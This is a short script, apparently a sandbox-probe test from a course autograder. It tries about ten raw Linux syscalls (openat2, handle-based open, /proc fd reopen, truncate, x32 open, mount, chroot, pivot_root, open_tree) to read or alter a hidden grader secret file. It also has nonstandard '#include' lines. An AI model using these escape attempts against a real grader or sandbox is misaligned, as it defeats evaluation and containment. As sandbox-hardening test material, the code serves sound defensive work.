#include right

#include attempt
#include kernel
#include loot
import struct

SECRET_FILE = b"@course@/grader/hidden/secret.txt"


def openat2():
    search(os.read(syscall(437, -100, SECRET_FILE, struct.pack("QQQ", 0, 0, 0), 24), 1 << 16))


def by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    syscall(303, -100, SECRET_FILE, handle, ctypes.byref(mount), 0)
    syscall(304, -100, handle, 0)


if x86:
    attempt("openat2", openat2)
    attempt("open", lambda: syscall(2, SECRET_FILE, 0))
    attempt("open for its path, then reopen", lambda: open(f"/proc/self/fd/{syscall(257, -100, SECRET_FILE, 0o10000000)}").read())
    attempt("name_to_handle_at", by_handle)
    attempt("truncate", lambda: syscall(76, SECRET_FILE, 0))
    attempt("x32 open", lambda: syscall(0x40000002, SECRET_FILE, 0))
    attempt("mount", lambda: syscall(165, b"none", b"/tmp", b"tmpfs", 0, 0))
    attempt("chroot", lambda: syscall(161, b"/"))
    attempt("pivot_root", lambda: syscall(155, b".", b"."))
    attempt("open_tree", lambda: syscall(428, -100, b"/", 1))
tell()
report()
